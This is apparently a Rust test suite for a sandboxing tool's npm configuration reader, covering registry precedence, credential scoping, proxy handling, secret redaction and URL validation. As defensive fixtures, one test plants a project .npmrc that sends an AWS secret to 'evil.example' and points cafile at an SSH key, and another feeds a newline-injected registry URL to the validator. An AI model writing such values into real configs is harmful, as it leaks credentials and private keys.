use super::*;

struct Fixture {
    dir: tempfile::TempDir,
    host: HostEnv,
    node: Node,
}

impl Fixture {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut node = Node::for_tests();
        node.exec = dir.path().join("prefix/bin/node");
        node.npm_cli = dir.path().join("prefix/lib/npm/bin/npm-cli.js");
        let host = HostEnv {
            cwd: dir.path().join("home/project"),
            home: dir.path().join("home"),
            ..HostEnv::default()
        };
        fs::create_dir_all(&host.cwd).unwrap();
        Self { dir, host, node }
    }

    fn write(&self, path: &str, text: &str) -> &Self {
        let path = self.dir.path().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
        self
    }

    fn var(mut self, name: &str, value: &str) -> Self {
        self.host.vars.insert(name.into(), value.into());
        self
    }

    fn read(&self) -> NpmConfig {
        NpmConfig::read(&self.host, &self.node, false).unwrap()
    }
}

fn shown(rules: &[Rule]) -> Vec<String> {
    rules.iter().map(ToString::to_string).collect()
}

fn npmrc(config: &NpmConfig) -> String {
    let files = config.fetch_files().unwrap();
    let (_, text) = files.iter().find(|(path, _)| path.ends_with(".npmrc")).unwrap();
    String::from_utf8(text.clone()).unwrap()
}

#[test]
fn nothing_configured_is_npms_own_default() {
    let config = Fixture::new().read();
    assert_eq!(shown(&config.rules()), ["registry.example.com:443"]);
    assert!(config.private_rules().is_empty() && config.notes.is_empty());
    assert_eq!(npmrc(&config), "registry=\"https://registry.example.com/\"\n");
}

#[test]
fn another_registry_or_token_is_another_realm() {
    let realm = |text: &str| Fixture::new().write("home/.npmrc", text).read().realm();
    let scope = "@me:registry=https://npm.example.com/\n";
    let all = ["", "registry=https://npm.example.com/\n", scope].map(str::to_owned).into_iter();
    let token = |token: &str| format!("{scope}//npm.example.com/:_authToken={token}\n");
    let all: Vec<String> = all.chain([token("one"), token("two")]).map(|text| realm(&text)).collect();
    let different: BTreeSet<&String> = all.iter().collect();
    assert_eq!(different.len(), all.len(), "{all:?}");
    assert!(all.iter().all(|one| one.len() == 16 && one.bytes().all(|byte| byte.is_ascii_hexdigit())));
    assert_eq!(realm(&token("one")), all[3]);
    // What changes nothing about it.
    assert_eq!(realm("fetch-retries=3\n//other.example.com/:_authToken=x\n"), all[0]);
}

#[test]
fn the_strongest_place_wins() {
    let f = Fixture::new();
    f.write("prefix/lib/npm/npmrc", "registry=https://builtin.example/\n@b:registry=https://b.example");
    assert_eq!(shown(&f.read().rules()), ["b.example:443", "builtin.example:443"]);
    f.write("prefix/etc/npmrc", "registry=https://global.example/");
    assert_eq!(f.read().registry.rule().unwrap().to_string(), "global.example:443");
    f.write("home/.npmrc", "registry=https://user.example:8443/npm");
    assert_eq!(f.read().registry.rule().unwrap().to_string(), "user.example:8443");
    f.write("elsewhere", "registry=http://elsewhere.example/");
    let elsewhere = f.dir.path().join("elsewhere").display().to_string();
    let f = f.var("npm_config_userconfig", &elsewhere);
    assert_eq!(f.read().registry.rule().unwrap().to_string(), "elsewhere.example:80");
    let f = f.var("NPM_CONFIG_REGISTRY", "https://env.example");
    assert_eq!(f.read().registry.rule().unwrap().to_string(), "env.example:443");
    assert_eq!(shown(&f.read().private_rules()), ["b.example:443", "env.example:443"]);
}

#[test]
fn a_projects_file_counts_only_when_asked_for() {
    let f = Fixture::new().var("AWS_SECRET", "secret");
    f.write("home/project/.npmrc", "registry=https://evil.example/${AWS_SECRET}/\ncafile=~/.ssh/id");
    let config = f.read();
    assert_eq!(shown(&config.rules()), ["registry.example.com:443"]);
    assert_eq!(config.cafile, None);
    assert!(config.notes[0].contains("does not count"), "{:?}", config.notes);
    let asked = NpmConfig::read(&f.host, &f.node, true).unwrap();
    assert_eq!(shown(&asked.rules()), ["evil.example:443"]);
}

#[test]
fn credentials_go_to_their_registries_only() {
    let f = Fixture::new().var("TOKEN", "tok;en#=\"x").var("npm_config_//c.example/:_authToken", "from-env");
    f.write("key.pem", "KEY").write("cert.pem", "CERT").write("ca.pem", "CA");
    let dir = f.dir.path().display();
    f.write(
        "home/.npmrc",
        &format!(
            "@a:registry=https://a.example/npm/\n@c:registry=https://c.example\n//a.example/npm/:_authToken=${{TOKEN}}\n\
             //a.example/npm/:certfile={dir}/cert.pem\n//a.example/npm/:keyfile={dir}/key.pem\n\
             //other.example/:_authToken=not-for-us\n//A.example:8443/:_auth=other-port\n\
             cafile={dir}/ca.pem\n_authToken=old\nemail=me@example.com\ninit-author-name=me\nmin-release-age=3\n"
        ),
    );
    let config = f.read();
    let files = config.fetch_files().unwrap();
    let text = npmrc(&config);
    assert!(text.contains("//a.example/npm/:_authToken=\"tok;en#=\\\"x\"\n"), "{text}");
    assert!(text.contains("//c.example/:_authToken=\"from-env\"\n"), "{text}");
    assert!(text.contains("min-release-age=\"3\""), "{text}");
    for absent in ["not-for-us", "other-port", "me@example", "init-author", "=\"old\""] {
        assert!(!text.contains(absent), "{absent} in {text}");
    }
    let content: Vec<&[u8]> = files.iter().map(|(_, content)| content.as_slice()).take(3).collect();
    assert_eq!(content, [&b"CERT"[..], b"KEY", b"CA"]);
    for (path, _) in &files[..3] {
        assert!(text.contains(path.to_str().unwrap()));
    }
    assert!(!format!("{config:?}").contains("tok"), "{config:?}");
    assert!(config.notes.iter().any(|note| note.contains("_authToken")));
}

#[test]
fn the_hosts_loopback_has_another_name_inside() {
    let f = Fixture::new();
    f.write(
        "home/.npmrc",
        "registry=http://localhost:4873/\n//localhost:4873/:_authToken=t\n@v:registry=http://[::1]:1/",
    );
    let config = f.read();
    assert_eq!(shown(&config.rules()), ["host.npxc.internal:1", "host.npxc.internal:4873"]);
    let text = npmrc(&config);
    assert!(text.contains("registry=\"http://host.npxc.internal:4873/\""), "{text}");
    assert!(text.contains("//host.npxc.internal:4873/:_authToken=\"t\""), "{text}");
    assert!(text.contains("replace-registry-host=\"localhost\""), "{text}");
}

#[test]
fn npms_own_proxy_stands_over_the_environments() {
    let f = Fixture::new().var("HTTPS_PROXY", "http://one.example:1").var("NO_PROXY", "a.example");
    let shown = |f: &Fixture| {
        let proxying = f.read().proxy(&f.host).unwrap();
        proxying.map(|proxying| format!("{} but {}", proxying.proxy, proxying.bypass))
    };
    assert_eq!(shown(&f), Some("http://one.example:1 but a.example".to_owned()));
    f.write("home/.npmrc", "proxy=http://u:secret@two.example:2");
    assert_eq!(shown(&f), Some("http://two.example:2 but a.example".to_owned()));
    f.write(
        "home/.npmrc",
        "proxy=http://two.example:2\nhttps-proxy=http://three.example:3\nnoproxy=b.example",
    );
    assert_eq!(shown(&f), Some("http://three.example:3 but b.example".to_owned()));
    f.write("home/.npmrc", "https-proxy=false");
    assert_eq!(shown(&f), None);
    f.write("home/.npmrc", "https-proxy=https://u:secret@two.example:2");
    let (origin, error) = f.read().proxy(&f.host).unwrap_err();
    assert!(origin.contains("https-proxy") && origin.contains(".npmrc"), "{origin}");
    assert!(!format!("{origin} {error:?}").contains("secret"));
    assert!(!format!("{:?}", f.read()).contains("secret"));
    assert!(!npmrc(&f.read()).contains("proxy"), "npm in the sandbox knows nothing of it");
}

#[test]
fn addresses_of_registries() {
    let rule = |text: &str| text.parse::<RegistryUrl>().map(|url| url.rule().unwrap().to_string());
    assert_eq!(rule("https://R.example"), Ok("r.example:443".into()));
    assert_eq!(rule("http://r.example:81/a/b"), Ok("r.example:81".into()));
    assert_eq!(rule("https://[2001:db8::1]/"), Ok("[2001:db8::1]:443".into()));
    for text in [
        "",
        "r.example",
        "ftp://r.example",
        "https://",
        "https://u:p@r.example",
        "https://r.example:0",
        "https://r.example:x",
        "https://a,b",
        "https://*.example",
        "https://[::1",
        "https://r.example/?x",
        "https://r.example/\n@evil:443",
    ] {
        assert!(rule(text).is_err(), "{text}");
    }
}

#[test]
fn a_bad_registry_says_where_it_stands() {
    let f = Fixture::new();
    f.write("home/.npmrc", "@x:registry=https://user:pw@r.example/");
    let error = NpmConfig::read(&f.host, &f.node, false).unwrap_err().to_string();
    assert!(error.contains("@x:registry") && error.contains(".npmrc") && !error.contains("pw@"), "{error}");
}

#[test]
fn a_registry_that_no_rule_can_name_is_noted_and_the_others_count() {
    let f = Fixture::new();
    f.write("home/.npmrc", "@odd:registry=https://0x7f.1/");
    let config = f.read();
    assert_eq!(shown(&config.rules()), ["registry.example.com:443"]);
    assert!(config.notes[0].contains("0x7f.1"), "{:?}", config.notes);
}
